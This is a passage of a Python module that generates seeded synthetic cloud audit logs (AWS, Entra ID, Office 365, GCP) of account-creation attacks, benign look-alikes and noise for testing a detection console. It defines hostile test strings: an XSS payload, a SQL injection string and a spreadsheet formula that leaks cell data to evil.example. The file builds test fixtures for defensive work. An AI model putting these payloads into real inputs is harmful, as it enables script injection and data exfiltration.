"""The scenario data set: a reproducible mix of cloud account attacks, benign provisioning look-alikes,
privilege follow-ons, hostile names and plenty of unrelated events — generated as RAW records, written to
``DIR/scenario/records.jsonl``, ingested through ``devconsole.ingest``, with offenses linking the attack
chains and ``DIR/scenario/manifest.json`` telling tests which event is which.

    python -m devconsole seed --data DIR [--events N] [--seed S]

Reproducible: the same seed, size and ``now`` give byte-identical records (``build_scenario``). Times are
relative to now: unrelated events spread over the last 48 hours, every scenario item within the last 24.
Record shapes follow ../shared/reference/detection-and-tuning.md §2–§3 (values illustrative, anonymised:
documentation IP ranges, example domains).
"""

from __future__ import annotations

import datetime as dt
import heapq
import json
import random
import shutil
import time
import uuid
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

from .dsm import parse_record
from .ingest import ingest_files
from .store import EventStore

DEFAULT_EVENTS = 20_000
DEFAULT_SEED = 1_136_003
MANIFEST_VERSION = 1

HOUR_MS = 3_600_000
NOISE_SPAN_MS = 48 * HOUR_MS

AWS_ACCOUNT = "111122223333"
TENANT_ID = "5b7e2a4c-9d13-4f6e-8a21-c0ffee1136a3"
TENANT_DOMAIN = "contoso.onmicrosoft.com"
GCP_PROJECT = "acme-prod-4411"
AZURE_SUBSCRIPTION = "0f6d1c2b-7a8e-4b39-9c5d-3e2f1a0b9c8d"

# Platform names as in the detection record (docs/ARCHITECTURE.md).
AWS, AZURE_AD, OFFICE_365, GCP = "AWS", "Azure AD", "Office 365", "GCP"

# Chain kinds, named after the rules in the detection issue: (a)–(c); (d) is a cross-feed twin, not a chain.
CHAIN_ENTRA_APP_SP_CREDENTIAL = "entra_app_sp_credential"  # (a)
CHAIN_AWS_USER_CREDENTIAL = "aws_user_credential"  # (b)
CHAIN_PRIVILEGE_GRANT = "privilege_grant"  # (c)
CHAIN_RULES = {CHAIN_ENTRA_APP_SP_CREDENTIAL: "a", CHAIN_AWS_USER_CREDENTIAL: "b", CHAIN_PRIVILEGE_GRANT: "c"}

# The scenario's offenses: QRadar offense types (what an offense is indexed on) and the CRE rules that
# raised them (rule ids are ours).
OFFENSE_TYPE_SOURCE_IP = 0
OFFENSE_TYPE_USERNAME = 3
ACCOUNT_CREATION_RULES = [{"id": 100_411, "type": "CRE_RULE"}]
LOGIN_FAILURE_RULES = [{"id": 100_052, "type": "CRE_RULE"}]

# Where each source keeps the record's own unique identifier.
RECORD_ID_FIELDS = {
    "cloudtrail": "eventID",
    "entra_audit": "properties.id",
    "entra_signin": "properties.id",
    "o365": "Id",
    "gcp": "insertId",
    "azure_platform": "properties.eventDataId",
}

UA_AWS_CLI = (
    "aws-cli/2.18.17 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-1016-aws md/arch#x86_64 "
    "lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe "
    "md/distrib#ubuntu.24 md/prompt#off md/command#{command}"
)
UA_TERRAFORM = (
    "APN/1.0 HashiCorp/1.0 Terraform/1.5.6 (+https://www.terraform.io) terraform-provider-aws/4.67.0 "
    "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go/1.44.261 "
    "(go1.19.8; linux; amd64)"
)
UA_ANSIBLE = (
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.0-18-amd64 md/arch#x86_64 "
    "lang/python#3.11.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69 Ansible/2.16.3"
)
# Puppet's AWS user agent has no public sample (UNCONFIRMED): an aws-sdk-ruby string.
UA_PUPPET = "aws-sdk-ruby3/3.191.3 ruby/3.2.2 x86_64-linux aws-sdk-iam/1.93.0 Puppet/8.4.0"
UA_BOTO3_SCRIPT = (
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#5.15.0-105-generic md/arch#x86_64 "
    "lang/python#3.10.12 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69"
)
UA_CONSOLE = "AWS Internal"
UA_AZ_CLI = "AZURECLI/2.61.0 (MSI) azsdk-python-core/1.28.0 Python/3.11.8 (Windows-10-10.0.22631-SP0)"
UA_POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506"
UA_AAD_GRAPH = "Microsoft Azure Graph Client Library 2.1.17-internal"
UA_BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0"
)
UA_GCLOUD = (
    "google-cloud-sdk gcloud/470.0.0 command/gcloud.iam.service-accounts.{command} "
    "invocation-id/{invocation} environment/None environment-version/None client-os/LINUX "
    "client-os-ver/6.5.0 client-pltf-arch/x86_64 interactive/True from-script/False python/3.11.8 "
    "term/xterm-256color (Linux 6.5.0-1014-gcp),gzip(gfe)"
)

APPID_AZURE_CLI = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"
APPID_AAD_POWERSHELL = "1b730954-1685-4b74-9bfd-dac224a7b894"
APPID_MS_GRAPH = "00000003-0000-0000-c000-000000000000"
APPID_SYNC_FABRIC = "00000014-0000-0000-c000-000000000000"
GLOBAL_ADMIN_TEMPLATE_ID = "62e90394-69f5-4237-9190-012177145e10"
ADMIN_POLICY_ARN = "arn:aws:iam::aws:policy/AdministratorAccess"

HOSTILE_XSS = "<img src=x onerror=alert(1)>"
HOSTILE_SQL = "' OR 1=1 --"
HOSTILE_CSV = '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")'


# --- time formats as each feed writes them -------------------------------------------------------------


def _utc(ms: int) -> dt.datetime:
    return dt.datetime.fromtimestamp(ms / 1000, tz=dt.UTC)


def iso_seconds(ms: int, zone: str = "Z") -> str:
    return _utc(ms).strftime("%Y-%m-%dT%H:%M:%S") + zone


def iso_fraction(ms: int, digits: int, extra: int, zone: str = "Z") -> str:
    """``digits`` fractional digits: the millisecond, then ``extra`` as sub-millisecond noise."""
    width = digits - 3
    sub = f"{ms % 1000:03d}{extra % 10**width:0{width}d}"
    return f"{_utc(ms).strftime('%Y-%m-%dT%H:%M:%S')}.{sub}{zone}"


def aws_create_date(ms: int) -> str:
    stamp = _utc(ms)
    hour = stamp.hour % 12 or 12
    return f"{stamp:%b} {stamp.day}, {stamp.year}, {hour}:{stamp:%M:%S} {'AM' if stamp.hour < 12 else 'PM'}"


# --- the data set under construction -------------------------------------------------------------------


@dataclass
class EventRef:
    record: dict
    role: str
    expected_detection: bool
    is_service_account: bool | None = None
    account_kind: str | None = None
    target_account: str | None = None
    twin_of: EventRef | None = None


@dataclass
class Item:
    key: str
    kind: str  # attack | benign | follow-on | hostile | noise-sample
    title: str
    platform: str
    actor: str
    actor_id: str
    actor_type: str
    events: list[EventRef]
    is_service_account: bool | None = None
    chain_kind: str | None = None
    source: str | None = None  # seed Testing Methodology / Atomic Red Team reference
    follows: str | None = None
    also_seen_in: list[str] = field(default_factory=list)
    allowlist: dict[str, Any] | None = None
    hostile_fields: dict[str, str] | None = None
    notes: str = ""


@dataclass
class OffenseSpec:
    description: str
    events: list[EventRef]
    items: list[str]
    offense_type: int
    offense_source: str
    magnitude: int
    severity: int
    credibility: int
    relevance: int
    status: str = "OPEN"
    closed: bool = False
    rules: list[dict[str, Any]] = field(default_factory=list)
    has_cloud_account_events: bool = True


@dataclass
class ChainSpec:
    kind: str
    items: list[str]
    events: list[EventRef]


@dataclass
class Scenario:
    seed: int
    events_requested: int
    now_ms: int
    records: list[dict]
    items: list[Item]
    offenses: list[OffenseSpec]
    chains: list[ChainSpec]


class _Builder:
    """Creates records with ids drawn from one seeded RNG, so the same seed gives the same records."""

    def __init__(self, seed: int, now_ms: int) -> None:
        self.rng = random.Random(seed)
        self.now_ms = now_ms - now_ms % 1000
        self.records: list[dict] = []
        self.times: dict[int, int] = {}  # id(record) -> event time (ms), for sorting
        self.keep = True  # False while streaming bulk noise: records are yielded, not kept
        self._aws_ids: dict[str, str] = {}
        self._entra_ids: dict[str, str] = {}
        self._puids: dict[str, str] = {}

    # ids ---------------------------------------------------------------------------------------------
    def uuid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def hexstr(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def upper_id(self, prefix: str, n: int = 16) -> str:
        return prefix + "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(n))

    def aws_principal(self, arn: str, prefix: str) -> str:
        if arn not in self._aws_ids:
            self._aws_ids[arn] = self.upper_id(prefix, 17)
        return self._aws_ids[arn]

    def object_id(self, name: str) -> str:
        """A stable Entra object id per name (user UPN, app or service principal)."""
        if name not in self._entra_ids:
            self._entra_ids[name] = self.uuid()
        return self._entra_ids[name]

    def puid(self, upn: str) -> str:
        if upn not in self._puids:
            self._puids[upn] = "1003" + self.hexstr(12).upper()
        return self._puids[upn]

    def at(self, hours_ago: float) -> int:
        """A whole-second time ``hours_ago`` before now, with up to ±5 minutes of jitter."""
        jitter = self.rng.randint(-300, 300) * 1000
        return self.now_ms - int(hours_ago * HOUR_MS) + jitter

    def add(self, record: dict, time_ms: int) -> dict:
        if self.keep:
            self.records.append(record)
            self.times[id(record)] = time_ms
        return record

    # AWS CloudTrail ----------------------------------------------------------------------------------
    def iam_user(self, name: str, account: str = AWS_ACCOUNT) -> dict:
        arn = f"arn:aws:iam::{account}:user/{name}"
        return {
            "type": "IAMUser",
            "principalId": self.aws_principal(arn, "AIDA"),
            "arn": arn,
            "accountId": account,
            "accessKeyId": self.upper_id("AKIA"),
            "userName": name,
        }

    def assumed_role(
        self,
        role: str,
        session: str,
        *,
        mfa: bool = False,
        invoked_by: str | None = None,
        account: str = AWS_ACCOUNT,
    ) -> dict:
        role_arn = f"arn:aws:iam::{account}:role/{role}"
        role_id = self.aws_principal(role_arn, "AROA")
        identity = {
            "type": "AssumedRole",
            "principalId": f"{role_id}:{session}",
            "arn": f"arn:aws:sts::{account}:assumed-role/{role}/{session}",
            "accountId": account,
            "accessKeyId": self.upper_id("ASIA"),
            "sessionContext": {
                "sessionIssuer": {
                    "type": "Role",
                    "principalId": role_id,
                    "arn": role_arn,
                    "accountId": account,
                    "userName": role,
                },
                "attributes": {
                    "creationDate": iso_seconds(self.now_ms - 20 * HOUR_MS),
                    "mfaAuthenticated": "true" if mfa else "false",
                },
            },
        }
        if invoked_by:
            identity["invokedBy"] = invoked_by
        return identity

    def cloudtrail(
        self,
        time_ms: int,
        name: str,
        identity: dict,
        ip: str,
        user_agent: str,
        *,
        source: str = "iam.amazonaws.com",
        request: dict | None = None,
        response: dict | None = None,
        error: tuple[str, str] | None = None,
        read_only: bool = False,
        region: str = "us-east-1",
        account: str = AWS_ACCOUNT,
    ) -> dict:
        record: dict[str, Any] = {
            "eventVersion": "1.10",
            "userIdentity": identity,
            "eventTime": iso_seconds(time_ms),
            "eventSource": source,
            "eventName": name,
            "awsRegion": region,
            "sourceIPAddress": ip,
            "userAgent": user_agent,
            "requestParameters": request,
            "responseElements": None if error else response,
            "requestID": self.uuid(),
            "eventID": self.uuid(),
            "readOnly": read_only,
            "eventType": "AwsApiCall",
            "managementEvent": True,
            "recipientAccountId": account,
            "eventCategory": "Management",
            "tlsDetails": {
                "tlsVersion": "TLSv1.3",
                "cipherSuite": "TLS_AES_128_GCM_SHA256",
                "clientProvidedHostHeader": source,
            },
        }
        if error:
            record["errorCode"], record["errorMessage"] = error
        return self.add(record, time_ms)

    def create_user(self, time_ms: int, identity: dict, ip: str, ua: str, user_name: str, **kw: Any) -> dict:
        arn = f"arn:aws:iam::{AWS_ACCOUNT}:user/{user_name}"
        response = {
            "user": {
                "path": "/",
                "userName": user_name,
                "userId": self.aws_principal(arn, "AIDA"),
                "arn": arn,
                "createDate": aws_create_date(time_ms),
            }
        }
        return self.cloudtrail(
            time_ms,
            "CreateUser",
            identity,
            ip,
            ua,
            request={"userName": user_name, "path": "/"},
            response=response,
            **kw,
        )

    def create_access_key(self, time_ms: int, identity: dict, ip: str, ua: str, user_name: str) -> dict:
        response = {
            "accessKey": {
                "accessKeyId": self.upper_id("AKIA"),
                "status": "Active",
                "userName": user_name,
                "createDate": aws_create_date(time_ms),
            }
        }
        return self.cloudtrail(
            time_ms, "CreateAccessKey", identity, ip, ua, request={"userName": user_name}, response=response
        )

    def create_login_profile(self, time_ms: int, identity: dict, ip: str, ua: str, user_name: str) -> dict:
        response = {
            "loginProfile": {
                "userName": user_name,
                "createDate": aws_create_date(time_ms),
                "passwordResetRequired": False,
            }
        }
        return self.cloudtrail(
            time_ms,
            "CreateLoginProfile",
            identity,
            ip,
            ua,
            request={"userName": user_name, "passwordResetRequired": False},
            response=response,
        )

    def attach_user_policy(self, time_ms: int, identity: dict, ip: str, ua: str, user_name: str) -> dict:
        return self.cloudtrail(
            time_ms,
            "AttachUserPolicy",
            identity,
            ip,
            ua,
            request={"userName": user_name, "policyArn": ADMIN_POLICY_ARN},
        )

    def create_role(
        self, time_ms: int, identity: dict, ip: str, ua: str, role_name: str, trusted_service: str
    ) -> dict:
        document = json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {"Effect": "Allow", "Principal": {"Service": trusted_service}, "Action": "sts:AssumeRole"}
                ],
            }
        )
        arn = f"arn:aws:iam::{AWS_ACCOUNT}:role/{role_name}"
        response = {
            "role": {
                "path": "/",
                "roleName": role_name,
                "roleId": self.aws_principal(arn, "AROA"),
                "arn": arn,
                "createDate": aws_create_date(time_ms),
                "assumeRolePolicyDocument": quote(document),
            }
        }
        return self.cloudtrail(
            time_ms,
            "CreateRole",
            identity,
            ip,
            ua,
            request={"roleName": role_name, "path": "/", "assumeRolePolicyDocument": quote(document)},
            response=response,
        )

    # Entra ID (diagnostic settings / Event Hub shape) ------------------------------------------------
    def user_initiator(self, upn: str, ip: str | None) -> dict:
        return {
            "user": {
                "id": self.object_id(upn),
                "displayName": None,
                "userPrincipalName": upn,
                "ipAddress": ip,
                "roles": [],
            }
        }

    def app_initiator(self, name: str, app_id: str | None = None) -> dict:
        return {
            "app": {
                "appId": app_id,
                "displayName": name,
                "servicePrincipalId": self.object_id(name),
                "servicePrincipalName": None,
            }
        }

    def user_target(self, upn: str, display_name: str, *, member_type: str = "Member") -> dict:
        return {
            "id": self.object_id(upn),
            "displayName": display_name,
            "type": "User",
            "userPrincipalName": upn,
            "administrativeUnits": [],
            "modifiedProperties": [
                {"displayName": "AccountEnabled", "oldValue": None, "newValue": "[true]"},
                {"displayName": "DisplayName", "oldValue": None, "newValue": json.dumps([display_name])},
                {"displayName": "UserPrincipalName", "oldValue": None, "newValue": json.dumps([upn])},
                {"displayName": "UserType", "oldValue": None, "newValue": json.dumps([member_type])},
            ],
        }

    def entra_audit(
        self,
        time_ms: int,
        operation: str,
        *,
        category: str,
        initiated_by: dict,
        targets: list[dict],
        result: str = "success",
        result_reason: str = "",
        correlation_id: str | None = None,
        user_agent: str | None = None,
        app_id: str | None = None,
        logged_by: str = "Core Directory",
        operation_type: str = "Add",
    ) -> dict:
        correlation = correlation_id or self.uuid()
        extra = self.rng.randrange(10_000)
        details = []
        if user_agent:
            details.append({"key": "User-Agent", "value": user_agent})
        if app_id:
            details.append({"key": "AppId", "value": app_id})
        user = initiated_by.get("user") or {}
        app = initiated_by.get("app") or {}
        record = {
            "time": iso_fraction(time_ms, 7, extra),
            "resourceId": f"/tenants/{TENANT_ID}/providers/Microsoft.aadiam",
            "operationName": operation,
            "operationVersion": "1.0",
            "category": "AuditLogs",
            "tenantId": TENANT_ID,
            "resultSignature": "None",
            "durationMs": 0,
            "callerIpAddress": user.get("ipAddress"),
            "correlationId": correlation,
            "identity": user.get("userPrincipalName") or app.get("displayName"),
            "Level": 4,
            "properties": {
                "id": f"Directory_{correlation}_{self.hexstr(5).upper()}_{self.rng.randrange(10**8)}",
                "category": category,
                "correlationId": correlation,
                "result": result,
                "resultReason": result_reason,
                "activityDisplayName": operation,
                "activityDateTime": iso_fraction(time_ms, 7, extra, "+00:00"),
                "loggedByService": logged_by,
                "operationType": operation_type,
                "initiatedBy": initiated_by,
                "targetResources": targets,
                "additionalDetails": details,
            },
        }
        return self.add(record, time_ms)

    def entra_add_user(
        self, time_ms: int, actor: str, actor_ip: str | None, upn: str, display_name: str, **kw: Any
    ) -> dict:
        """An Entra "Add user" audit record: the user ``actor`` (from ``actor_ip``) creates ``upn``."""
        return self._entra_user_management(time_ms, "Add user", actor, actor_ip, upn, display_name, **kw)

    def entra_delete_user(
        self, time_ms: int, actor: str, actor_ip: str | None, upn: str, display_name: str, **kw: Any
    ) -> dict:
        """An Entra "Delete user" audit record (a test's cleanup)."""
        return self._entra_user_management(
            time_ms, "Delete user", actor, actor_ip, upn, display_name, operation_type="Delete", **kw
        )

    def _entra_user_management(
        self,
        time_ms: int,
        operation: str,
        actor: str,
        actor_ip: str | None,
        upn: str,
        display_name: str,
        **kw: Any,
    ) -> dict:
        return self.entra_audit(
            time_ms,
            operation,
            category="UserManagement",
            initiated_by=self.user_initiator(actor, actor_ip),
            targets=[self.user_target(upn, display_name)],
            **kw,
        )

    def entra_global_admin_grant(
        self, time_ms: int, actor: str, actor_ip: str, upn: str, display_name: str, user_agent: str
    ) -> dict:
        """An Entra "Add member to role" audit record: ``actor`` makes ``upn`` Global Administrator."""
        member = self.user_target(upn, display_name)
        member["modifiedProperties"] = [
            {"displayName": "Role.DisplayName", "oldValue": None, "newValue": '"Global Administrator"'},
            {
                "displayName": "Role.TemplateId",
                "oldValue": None,
                "newValue": json.dumps(GLOBAL_ADMIN_TEMPLATE_ID),
            },
        ]
        role = {
            "id": self.object_id("role:Global Administrator"),
            "displayName": "Global Administrator",
            "type": "Role",
        }
        return self.entra_audit(
            time_ms,
            "Add member to role",
            category="RoleManagement",
            initiated_by=self.user_initiator(actor, actor_ip),
            targets=[member, role],
            user_agent=user_agent,
            operation_type="Assign",
        )

    def entra_signin(
        self,
        time_ms: int,
        upn: str,
        ip: str,
        *,
        error_code: int = 0,
        app: str = "Office 365 Exchange Online",
        user_agent: str = UA_BROWSER,
    ) -> dict:
        failure = {
            0: "",
            50126: "Invalid username or password or Invalid on-premise username or password.",
            50053: "Account is locked.",
            50074: "Strong Authentication is required.",
        }
        record = {
            "time": iso_fraction(time_ms, 7, self.rng.randrange(10_000)),
            "resourceId": f"/tenants/{TENANT_ID}/providers/Microsoft.aadiam",
            "operationName": "Sign-in activity",
            "operationVersion": "1.0",
            "category": "SignInLogs",
            "tenantId": TENANT_ID,
            "resultType": str(error_code),
            "resultSignature": "SUCCESS" if error_code == 0 else "None",
            "resultDescription": failure.get(error_code, ""),
            "durationMs": 0,
            "callerIpAddress": ip,
            "correlationId": self.uuid(),
            "identity": upn.split("@", 1)[0],
            "Level": 4,
            "location": "US",
            "properties": {
                "id": self.uuid(),
                "createdDateTime": iso_fraction(time_ms, 7, 0, "+00:00"),
                "userDisplayName": upn.split("@", 1)[0],
                "userPrincipalName": upn,
                "userId": self.object_id(upn),
                "appId": self.object_id(app),
                "appDisplayName": app,
                "ipAddress": ip,
                "clientAppUsed": "Browser",
                "userAgent": user_agent,
                "status": {"errorCode": error_code, "failureReason": failure.get(error_code, "Other.")},
                "isInteractive": True,
            },
        }
        return self.add(record, time_ms)

    # Office 365 Management Activity ------------------------------------------------------------------
    def o365(
        self,
        time_ms: int,
        operation: str,
        user_id: str,
        *,
        workload: str = "AzureActiveDirectory",
        record_type: int = 8,
        object_id: str | None = None,
        result: str = "Success",
        actor_ip: str | None = None,
        extra: dict | None = None,
    ) -> dict:
        record: dict[str, Any] = {
            "CreationTime": iso_seconds(time_ms, ""),
            "Id": self.uuid(),
            "Operation": operation,
            "OrganizationId": TENANT_ID,
            "RecordType": record_type,
            "ResultStatus": result,
            "UserKey": f"{self.puid(user_id)}@{TENANT_DOMAIN}",
            "UserType": 0,
            "Version": 1,
            "Workload": workload,
            "ClientIP": "",
            "UserId": user_id,
        }
        if object_id is not None:
            record["ObjectId"] = object_id
        if actor_ip:
            record["ActorIpAddress"] = actor_ip
        if workload == "AzureActiveDirectory":
            record.update(
                {
                    "AzureActiveDirectoryEventType": 1,
                    "Actor": [{"ID": user_id, "Type": 5}, {"ID": self.puid(user_id), "Type": 3}],
                    "ActorContextId": TENANT_ID,
                    "InterSystemsId": self.uuid(),
                    "IntraSystemId": self.uuid(),
                    "SupportTicketId": "",
                    "TargetContextId": TENANT_ID,
                }
            )
        if extra:
            record.update(extra)
        return self.add(record, time_ms)

    def o365_add_user(self, time_ms: int, actor: str, upn: str, display_name: str, actor_ip: str) -> dict:
        oid = self.object_id(upn)
        return self.o365(
            time_ms,
            "Add user.",
            actor,
            object_id=upn,
            actor_ip=actor_ip,
            extra={
                "ModifiedProperties": [
                    {"Name": "AccountEnabled", "NewValue": "[\r\n  true\r\n]", "OldValue": "[]"},
                    {"Name": "DisplayName", "NewValue": json.dumps([display_name]), "OldValue": "[]"},
                    {"Name": "UserPrincipalName", "NewValue": json.dumps([upn]), "OldValue": "[]"},
                ],
                "ExtendedProperties": [{"Name": "extendedAuditEventCategory", "Value": "User"}],
                "Target": [
                    {"ID": f"User_{oid}", "Type": 2},
                    {"ID": oid, "Type": 2},
                    {"ID": "User", "Type": 2},
                    {"ID": upn, "Type": 5},
                ],
            },
        )

    # Google Cloud audit log --------------------------------------------------------------------------
    def gcp(
        self,
        time_ms: int,
        method: str,
        principal: str,
        ip: str,
        user_agent: str,
        *,
        service: str = "iam.googleapis.com",
        resource_name: str = f"projects/{GCP_PROJECT}",
        request: dict | None = None,
        response: dict | None = None,
        permission: str = "",
        denied: bool = False,
        log: str = "activity",
        resource_type: str = "service_account",
    ) -> dict:
        extra = self.rng.randrange(1_000_000)
        proto: dict[str, Any] = {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "status": {"code": 7, "message": f"Permission '{permission}' denied on resource"}
            if denied
            else {},
            "authenticationInfo": {"principalEmail": principal},
            "requestMetadata": {
                "callerIp": ip,
                "callerSuppliedUserAgent": user_agent,
                "requestAttributes": {"time": iso_fraction(time_ms, 9, extra), "auth": {}},
                "destinationAttributes": {},
            },
            "serviceName": service,
            "methodName": method,
            "authorizationInfo": [
                {
                    "resource": resource_name,
                    "permission": permission,
                    "granted": not denied,
                    "resourceAttributes": {},
                }
            ],
            "resourceName": resource_name,
        }
        if request is not None:
            proto["request"] = request
        if response is not None and not denied:
            proto["response"] = response
        record = {
            "protoPayload": proto,
            "insertId": self.hexstr(12),
            "resource": {"type": resource_type, "labels": {"project_id": GCP_PROJECT}},
            "timestamp": iso_fraction(time_ms, 9, extra),
            "severity": "ERROR" if denied else "NOTICE",
            "logName": f"projects/{GCP_PROJECT}/logs/cloudaudit.googleapis.com%2F{log}",
            "receiveTimestamp": iso_fraction(time_ms + 180, 9, extra),
        }
        return self.add(record, time_ms)

    # Azure Activity Log (Azure Platform, 413) --------------------------------------------------------
    def azure_activity(
        self, time_ms: int, operation: str, caller: str, ip: str, resource: str, result: str = "Success"
    ) -> dict:
        resource_id = (
            f"/SUBSCRIPTIONS/{AZURE_SUBSCRIPTION.upper()}/RESOURCEGROUPS/RG-PROD/PROVIDERS/{resource}"
        )
        record = {
            "time": iso_fraction(time_ms, 7, self.rng.randrange(10_000)),
            "resourceId": resource_id,
            "operationName": operation,
            "category": "Administrative",
            "resultType": result,
            "resultSignature": "Succeeded." if result == "Success" else "Failed.",
            "durationMs": "0",
            "callerIpAddress": ip,
            "correlationId": self.uuid(),
            "identity": {
                "claims": {
                    "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": caller,
                    "appid": APPID_AZURE_CLI,
                }
            },
            "level": "Information",
            "location": "global",
            "properties": {
                "eventCategory": "Administrative",
                "eventDataId": self.uuid(),
                "eventName": "EndRequest",
                "entity": resource_id,
                "message": operation,
            },
        }
        return self.add(record, time_ms)


# --- the scenario items ---------------------------------------------------------------------------------


def _ref(
    record: dict,
    role: str,
    detect: bool,
    service: bool | None = None,
    kind: str | None = None,
    target: str | None = None,
) -> EventRef:
    return EventRef(record, role, detect, service, kind, target)


def _entra_user_item(
    b: _Builder, key: str, kind: str, title: str, actor: str, events: list[EventRef], **kw: Any
) -> Item:
    """An Azure AD item whose actor is the user ``actor`` (a UPN), known by its object id."""
    return Item(key, kind, title, AZURE_AD, actor, b.object_id(actor), "user", events, **kw)


def _aws_item(key: str, kind: str, title: str, identity: dict, events: list[EventRef], **kw: Any) -> Item:
    """An AWS item whose actor is the CloudTrail ``identity``: an IAM user by its name and ARN, an assumed
    role as role/session with the role's ARN (the session changes, the role is who acts)."""
    if identity["type"] == "IAMUser":
        return Item(key, kind, title, AWS, identity["userName"], identity["arn"], "IAMUser", events, **kw)
    issuer = identity["sessionContext"]["sessionIssuer"]
    session = identity["arn"].rsplit("/", 1)[1]
    actor = f"{issuer['userName']}/{session}"
    return Item(key, kind, title, AWS, actor, issuer["arn"], "AssumedRole", events, **kw)


def _account_offense(
    description: str,
    events: list[EventRef],
    items: list[str],
    actor: str,
    scores: tuple[int, int, int, int],
    **kw: Any,
) -> OffenseSpec:
    """An offense of the account-creation rule, indexed on the acting user; ``scores`` are its
    (magnitude, severity, credibility, relevance)."""
    return OffenseSpec(
        description, events, items, OFFENSE_TYPE_USERNAME, actor, *scores, rules=ACCOUNT_CREATION_RULES, **kw
    )


def _scenario_items(b: _Builder) -> tuple[list[Item], list[OffenseSpec], list[ChainSpec]]:
    items: list[Item] = []
    offenses: list[OffenseSpec] = []
    chains: list[ChainSpec] = []

    def upn(name: str) -> str:
        return f"{name}@{TENANT_DOMAIN}"

    # -- seed Testing Methodology, test 1: Azure AD user via Azure CLI
    admin, admin_ip = upn("adele.vance"), "203.0.113.45"
    t = b.at(20.5)
    target = upn("df00tech-test-user")
    cli = {"user_agent": UA_AZ_CLI, "app_id": APPID_AZURE_CLI}
    add = b.entra_add_user(t, admin, admin_ip, target, "df00tech-test-user", **cli)
    cleanup = b.entra_delete_user(t + 600_000, admin, admin_ip, target, "df00tech-test-user", **cli)
    items.append(
        _entra_user_item(
            b,
            "seed-test-1-azure-cli-user",
            "attack",
            "Azure AD user created via Azure CLI",
            admin,
            [_ref(add, "creation", True, False, "user", target), _ref(cleanup, "cleanup", False)],
            is_service_account=False,
            source="seed Testing Methodology test 1",
        )
    )

    # -- seed test 2: AADInternals pattern — Add application → Add service principal → credentials (< 60 s)
    megan, megan_ip = upn("megan.bowen"), "198.51.100.23"
    t = b.at(16)
    corr = b.uuid()
    app_name = "Graph Sync Helper"
    app_id = b.uuid()
    app_target = {
        "id": b.object_id(f"app:{app_name}"),
        "displayName": app_name,
        "type": "Application",
        "modifiedProperties": [{"displayName": "AppId", "oldValue": None, "newValue": json.dumps([app_id])}],
    }
    sp_target = {
        "id": b.object_id(app_name),
        "displayName": app_name,
        "type": "ServicePrincipal",
        "modifiedProperties": [{"displayName": "AppId", "oldValue": None, "newValue": json.dumps([app_id])}],
    }
    key_id = b.uuid()
    cred_target = {
        **sp_target,
        "modifiedProperties": [
            {
                "displayName": "KeyDescription",
                "oldValue": "[]",
                "newValue": json.dumps(
                    [f"[KeyIdentifier={key_id},KeyType=Password,KeyUsage=Verify,DisplayName=sync]"]
                ),
            }
        ],
    }
    initiator = b.user_initiator(megan, megan_ip)
    common = {
        "category": "ApplicationManagement",
        "initiated_by": initiator,
        "correlation_id": corr,
        "user_agent": UA_POWERSHELL,
        "app_id": APPID_AAD_POWERSHELL,
    }
    e_app = b.entra_audit(t, "Add application", targets=[app_target], **common)
    e_sp = b.entra_audit(t + 3_000, "Add service principal", targets=[sp_target], **common)
    e_cred = b.entra_audit(t + 21_000, "Add service principal credentials", targets=[cred_target], **common)
    aadint_sp = _entra_user_item(
        b,
        "seed-test-2-aadinternals-service-principal",
        "attack",
        "AADInternals pattern: application, service principal and credentials within a minute",
        megan,
        [
            _ref(e_app, "creation", True, True, "application", app_name),
            _ref(e_sp, "creation", True, True, "service_principal", app_name),
            _ref(e_cred, "credential", True, True, "credential", app_name),
        ],
        is_service_account=True,
        chain_kind=CHAIN_ENTRA_APP_SP_CREDENTIAL,
        source="seed Testing Methodology test 2",
    )
    items.append(aadint_sp)
    role_assignment = b.entra_audit(
        t + 240_000,
        "Add app role assignment to service principal",
        category="ApplicationManagement",
        initiated_by=initiator,
        user_agent=UA_POWERSHELL,
        app_id=APPID_AAD_POWERSHELL,
        targets=[
            {
                **sp_target,
                "modifiedProperties": [
                    {
                        "displayName": "AppRole.Value",
                        "oldValue": None,
                        "newValue": '"RoleManagement.ReadWrite.Directory"',
                    },
                    {
                        "displayName": "ServicePrincipal.AppId",
                        "oldValue": None,
                        "newValue": json.dumps(APPID_MS_GRAPH),
                    },
                ],
            }
        ],
        operation_type="Assign",
    )
    consent = b.entra_audit(
        t + 360_000,
        "Consent to application",
        category="ApplicationManagement",
        initiated_by=initiator,
        user_agent=UA_BROWSER,
        targets=[
            {
                **sp_target,
                "modifiedProperties": [
                    {"displayName": "ConsentContext.IsAdminConsent", "oldValue": None, "newValue": '"True"'},
                    {
                        "displayName": "ConsentAction.Permissions",
                        "oldValue": None,
                        "newValue": '"Scope: Directory.ReadWrite.All Mail.Read"',
                    },
                ],
            }
        ],
        operation_type="Assign",
    )
    items.append(
        _entra_user_item(
            b,
            "follow-on-entra-app-role-assignment",
            "follow-on",
            "Graph app role RoleManagement.ReadWrite.Directory granted to the new service principal",
            megan,
            [_ref(role_assignment, "privilege", False, True, "service_principal", app_name)],
            follows=aadint_sp.key,
            chain_kind=CHAIN_PRIVILEGE_GRANT,
            source="Atomic T1098.001 (SP hijack)",
        )
    )
    items.append(
        _entra_user_item(
